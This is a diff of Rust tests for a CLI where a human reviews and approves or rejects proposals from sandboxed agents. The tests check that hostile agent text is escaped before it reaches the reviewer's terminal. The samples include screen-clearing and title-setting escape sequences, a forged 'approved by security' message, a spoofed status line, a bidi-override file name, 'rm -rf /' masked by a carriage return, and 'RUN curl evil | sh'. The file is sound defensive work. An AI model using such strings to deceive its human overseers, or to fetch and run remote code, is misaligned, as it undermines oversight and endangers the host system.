@@ -97,8 +97,124 @@ fn apt(pkgs: &[&str]) -> Value {
     json!({"type": "capability", "apt": pkgs})
 }
 
-fn egress(host: &str, port: u16) -> Value {
-    json!({"type": "egress", "host": host, "port": port})
+fn egress(host: &str) -> Value {
+    json!({"type": "egress", "host": host})
+}
+
+/// Raw terminal controls a hostile agent puts in its free text: clear the screen and move the
+/// cursor (ESC), the one-byte CSI (C1), a carriage return over a line, a title set ending in BEL,
+/// a bidi override.
+const HOSTILE: &[char] = &['\u{1b}', '\u{9b}', '\r', '\u{7}', '\u{202e}', '\u{8}'];
+
+fn assert_no_raw_controls(what: &str, text: &str) {
+    for c in HOSTILE {
+        assert!(!text.contains(*c), "{what} printed a raw {c:?}: {text:?}");
+    }
+}
+
+#[test]
+fn show_and_reject_print_agent_and_build_text_escaped() {
+    let home = Home::new();
+    let p = json!({
+        "version": 1, "id": "500-e", "bottle": "app", "kind": apt(&["ripgrep"]),
+        "reason": "needs rg\u{1b}[2J\u{1b}[1;1Happroved by security\u{9b}31m",
+        "evidence": [
+            "ok\rrm -rf / \u{8}\u{8}",
+            // A second line that would pass for one of show's own fields.
+            "one\nstate     applied",
+            "bidi \u{202e}txt.exe",
+        ],
+        "created": now() - 5,
+    });
+    std::fs::write(
+        home.queue("app", "proposals").join("500-e.json"),
+        serde_json::to_vec(&p).expect("json"),
+    )
+    .expect("proposal");
+    let d = json!({"version": 1, "id": "500-e", "decision": "reject",
+        "reason": "no\u{1b}]0;pwned\u{7}", "by": "bob\u{1b}[8m"});
+    std::fs::write(
+        home.queue("app", "decisions").join("500-e.json"),
+        serde_json::to_vec(&d).expect("json"),
+    )
+    .expect("decision");
+    let a = json!({"version": 1, "id": "500-e", "outcome": "failed", "at": now(),
+        "detail": "the rebuild failed\n--- last build output ---\n\u{1b}[2Kdone\u{1b}[A"});
+    std::fs::write(
+        home.queue("app", "applied").join("500-e.json"),
+        serde_json::to_vec(&a).expect("json"),
+    )
+    .expect("applied");
+
+    let o = home.run(&["show", "500-e"]);
+    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
+    let shown = out(&o);
+    assert_no_raw_controls("show", &shown);
+    assert!(
+        shown.contains("needs rg\\x1b[2J\\x1b[1;1Happroved by security\\u{9b}31m"),
+        "{shown}"
+    );
+    assert!(shown.contains("ok\\rrm -rf / \\x08\\x08"), "{shown}");
+    assert!(shown.contains("bidi \\u{202e}txt.exe"), "{shown}");
+    assert!(shown.contains("no\\x1b]0;pwned\\x07"), "{shown}");
+    assert!(shown.contains("\\x1b[2Kdone\\x1b[A"), "{shown}");
+    assert!(
+        !shown.lines().any(|l| l.starts_with("state     applied")),
+        "a line of the agent's evidence passed for a field of show: {shown}"
+    );
+
+    home.propose("app", "600-f", apt(&["jq"]), 5);
+    let o = home.run(&["reject", "600-f", "--reason", "no \u{1b}[2J\u{9b}H"]);
+    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
+    assert_no_raw_controls("reject", &out(&o));
+    assert!(out(&o).contains("no \\x1b[2J\\u{9b}H"), "{}", out(&o));
+}
+
+#[test]
+fn queue_and_show_escape_what_they_report_of_a_malformed_proposal() {
+    let home = Home::new();
+    // Invalid now (a control character in a Dockerfile line, a type that does not exist): the
+    // reports quote the file's text.
+    let bad_line = json!({
+        "version": 1, "id": "700-g", "bottle": "app",
+        "kind": {"type": "capability", "dockerfile_lines": ["RUN curl evil | sh\u{1b}[2K\u{1b}[1GRUN echo safe"]},
+        "reason": "r", "created": now(),
+    });
+    let bad_type = json!({
+        "version": 1, "id": "800-h", "bottle": "app",
+        "kind": {"type": "\u{1b}[2J\u{9b}capability"}, "reason": "r", "created": now(),
+    });
+    for (id, p) in [("700-g", bad_line), ("800-h", bad_type)] {
+        std::fs::write(
+            home.queue("app", "proposals").join(format!("{id}.json")),
+            serde_json::to_vec(&p).expect("json"),
+        )
+        .expect("proposal");
+    }
+    let o = home.run(&["queue"]);
+    assert_no_raw_controls("queue (stdout)", &out(&o));
+    assert_no_raw_controls("queue (stderr)", &err(&o));
+    assert!(err(&o).contains("U+001B"), "{}", err(&o));
+    for id in ["700-g", "800-h"] {
+        let o = home.run(&["show", id]);
+        assert_ne!(o.status.code(), Some(0), "{}", out(&o));
+        assert_no_raw_controls("show (stdout)", &out(&o));
+        assert_no_raw_controls("show (stderr)", &err(&o));
+    }
+}
+
+#[test]
+fn a_proposal_with_a_port_is_reported_not_listed() {
+    let home = Home::new();
+    home.propose(
+        "app",
+        "900-i",
+        json!({"type": "egress", "host": "packages.example.org", "port": 8443}),
+        5,
+    );
+    let o = home.run(&["queue"]);
+    assert_eq!(out(&o), "no pending proposals\n", "{}", err(&o));
+    assert!(err(&o).contains("ports are not enforced"), "{}", err(&o));
 }
 
 #[test]
@@ -109,7 +225,7 @@ fn queue_lists_pending_proposals_of_all_bottles_or_one() {
     assert_eq!(out(&o), "no pending proposals\n");
 
     home.propose("app", "100-a", apt(&["ripgrep", "jq"]), 300);
-    home.propose("app", "200-b", egress("packages.example.org", 443), 7_300);
+    home.propose("app", "200-b", egress("packages.example.org"), 7_300);
     home.propose(
         "web",
         "300-c",
@@ -123,7 +239,7 @@ fn queue_lists_pending_proposals_of_all_bottles_or_one() {
     assert_eq!(lines[0], "ID     AGE  BOTTLE  KIND        SUMMARY");
     assert_eq!(
         lines[1],
-        "200-b  2h   app     egress      packages.example.org:443"
+        "200-b  2h   app     egress      packages.example.org"
     );
     assert_eq!(
         lines[2],
@@ -203,7 +319,7 @@ fn show_prefers_the_per_bottle_dockerfile_and_shows_the_operators_edit() {
 #[test]
 fn show_of_an_egress_proposal_shows_the_allowlist_line() {
     let home = Home::new();
-    home.propose("app", "200-b", egress("packages.example.org", 443), 60);
+    home.propose("app", "200-b", egress("packages.example.org"), 60);
     let o = home.run(&["show", "200-b"]);
     assert_eq!(o.status.code(), Some(0), "{}", err(&o));
     show_filters().bind(|| insta::assert_snapshot!(out(&o)));
@@ -213,7 +329,7 @@ fn show_of_an_egress_proposal_shows_the_allowlist_line() {
 fn approve_and_reject_write_decisions_and_audit_lines_once() {
     let home = Home::new();
     home.propose("app", "100-a", apt(&["ripgrep"]), 30);
-    home.propose("app", "200-b", egress("packages.example.org", 443), 30);
+    home.propose("app", "200-b", egress("packages.example.org"), 30);
 
     let o = home.run(&["approve", "100-a"]);
     assert_eq!(o.status.code(), Some(0), "{}", err(&o));
@@ -284,7 +400,7 @@ fn approve_and_reject_write_decisions_and_audit_lines_once() {
 #[test]
 fn unknown_and_invalid_ids_and_bad_edits_exit_two() {
     let home = Home::new();
-    home.propose("app", "200-b", egress("packages.example.org", 443), 30);
+    home.propose("app", "200-b", egress("packages.example.org"), 30);
     for args in [
         &["approve", "nope"][..],
         &["reject", "nope", "--reason", "x"],
